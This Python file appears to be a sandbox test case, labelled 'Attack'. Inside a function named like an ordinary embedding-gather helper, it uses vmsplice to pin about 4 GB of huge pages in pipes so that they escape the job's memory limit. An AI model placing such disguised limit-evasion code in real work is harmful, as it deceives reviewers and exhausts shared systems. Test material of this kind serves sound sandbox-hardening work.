# Attack: vmsplices one byte of each 2 MB huge page into pipes, then unmaps the pages: the pipes keep whole huge pages (4 GB) that the data limit no longer counts; vmsplice is refused inside a job -> runtime_error.
import ctypes
import os

import numpy as np

HUGE = 2 << 20
PAGES_PER_PIPE = 16
MAP_PRIVATE, MAP_ANONYMOUS, PROT_READ_WRITE, MADV_HUGEPAGE = 0x02, 0x20, 0x3, 14
SYS_VMSPLICE = 278

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = (
    ctypes.c_void_p,
    ctypes.c_size_t,
    ctypes.c_int,
    ctypes.c_int,
    ctypes.c_int,
    ctypes.c_long,
)
libc.syscall.restype = ctypes.c_long


class IoVec(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


def _pin_one_pipe():
    _, write_end = os.pipe()
    size = PAGES_PER_PIPE * HUGE
    raw = libc.mmap(None, size + HUGE, PROT_READ_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0)
    start = (raw + HUGE - 1) // HUGE * HUGE
    libc.madvise(ctypes.c_void_p(start), ctypes.c_size_t(size), MADV_HUGEPAGE)
    for page in range(PAGES_PER_PIPE):
        ctypes.memset(start + page * HUGE, 1, 1)  # one write fault brings in the whole page
        vec = IoVec(start + page * HUGE, 1)
        args = (SYS_VMSPLICE, write_end, ctypes.addressof(vec), 1, 0)
        if libc.syscall(*(ctypes.c_long(arg) for arg in args)) < 0:
            raise OSError(ctypes.get_errno(), "vmsplice was refused")
    libc.munmap(ctypes.c_void_p(raw), ctypes.c_size_t(size + HUGE))


def position_embedding_gather(positions, embedding_table):
    for _ in range(120):
        _pin_one_pipe()
    return embedding_table[positions.astype(np.int64)]
